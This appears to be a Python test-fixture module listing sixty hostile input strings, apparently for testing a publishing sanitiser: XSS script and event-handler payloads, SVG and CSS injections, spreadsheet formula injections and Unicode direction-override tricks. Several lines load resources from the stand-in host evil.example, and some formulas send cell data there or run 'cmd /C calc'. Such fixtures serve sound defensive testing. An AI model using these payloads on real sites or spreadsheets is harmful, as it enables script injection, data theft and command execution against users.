"""Sixty texts that mean harm, or do it: each a title and a paragraph that a newsroom could print."""

from __future__ import annotations

SCRIPTS = [
    "<script>window.hit=1</script>",
    "</title><script>window.hit=1</script>",
    "</script><script>window.hit=1</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\x20type=\"text/javascript\">window.hit=1;</script>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "%3Cscript%3Ewindow.hit=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e",
    "<scr<script>ipt>window.hit=1</scr</script>ipt>",
    "<noscript><p title=\"</noscript><script>window.hit=1</script>\">",
    "<template><script>window.hit=1</script></template>",
    "<textarea></textarea><script>window.hit=1</script>",
    "]]><script>window.hit=1</script>",
    "--><script>window.hit=1</script><!--",
    "{{ 7 * 7 }}{% raw %}{{ config }}{% endraw %}",
    "${window.hit=1}#{window.hit=1}",
]  # fmt: skip
ATTRIBUTES = [
    "<img src=x onerror=window.hit=1>",
    "<img src=x:x onerror=\"window.hit=1\">",
    "\"><img src=x onerror=window.hit=1>",
    "' onmouseover='window.hit=1' x='",
    "\" autofocus onfocus=\"window.hit=1\" x=\"",
    "<body onload=window.hit=1>",
    "<a href=\"javascript:window.hit=1\">click</a>",
    "<a href=\"java\tscript:window.hit=1\">click</a>",
    "javascript:window.hit=1",
    "<iframe src=\"javascript:window.hit=1\"></iframe>",
    "<form action=\"//evil.example\"><button>go</button></form>",
    "<input autofocus onfocus=window.hit=1>",
    "<details open ontoggle=window.hit=1>x</details>",
    "<video><source onerror=window.hit=1></video>",
    "<marquee onstart=window.hit=1>x</marquee>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<base href=\"//evil.example/\">",
    "<object data=\"data:text/html,<script>window.hit=1</script>\"></object>",
]  # fmt: skip
SVG = [
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
    "</svg><svg><use href=\"//evil.example/x.svg#y\"/>",
]  # fmt: skip
CSS = [
    "<style>body{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style=\"position:fixed;inset:0;background:red\">covered</p>",
    "</style><style>*{color:transparent}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "x" * 3000,
]  # fmt: skip
FORMULAS = [
    "=cmd|'/C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "＝1+1",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
    "=1+1\";=1+1",
]  # fmt: skip
DIRECTIONS = [
    "\u202etxet desrever\u202c after",
    "\u2066isolated \u2067never closed",
    "safe\u202egpj.exe",
    "a\u200fb\u200ec\u061cd",
    "Z\u0351\u036b\u0343a\u0346l\u0361g\u035co " * 20,
    "\ufeff\u2028line\u2029paragraph\u0085next",
]  # fmt: skip

TEXTS = [*SCRIPTS, *ATTRIBUTES, *SVG, *CSS, *FORMULAS, *DIRECTIONS]
